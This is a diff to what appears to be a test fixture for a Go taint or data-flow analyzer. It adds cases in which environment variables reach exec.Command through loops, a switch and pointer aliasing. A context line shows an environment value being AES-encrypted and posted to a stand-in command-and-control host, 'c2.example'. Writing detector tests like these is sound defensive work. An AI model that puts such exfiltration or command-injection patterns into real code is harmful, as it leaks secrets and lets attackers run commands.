@@ -497,6 +497,15 @@ loop:
 	for { select { case x = <-c: break loop; default: } }
 	exec.Command(x)
 ---
+added to in a loop | environment>exec
+var x string; for i := 0; i < 3; i++ { x = x + os.Getenv("A") }; exec.Command(x)
+---
+added to in a switch in a loop | environment>exec
+var x, y string; for i := 0; i < 3; i++ { switch i { case 1: x = y + os.Getenv("A"); case 2: y = x } }; exec.Command(y)
+---
+one of two objects | environment>exec
+type T struct{ a string }; p, q := &T{}, &T{}; r := p; if len(os.Args) > 1 { r = q }; r.a = os.Getenv("A"); exec.Command(q.a)
+---
 encrypted | environment>network
 k, _ := aes.NewCipher([]byte("0123456789abcdef")); d := []byte(os.Getenv("A")); o := make([]byte, len(d)); cipher.NewCTR(k, make([]byte, 16)).XORKeyStream(o, d); http.Post("https://c2.example/", "", bytes.NewReader(o))
 `;
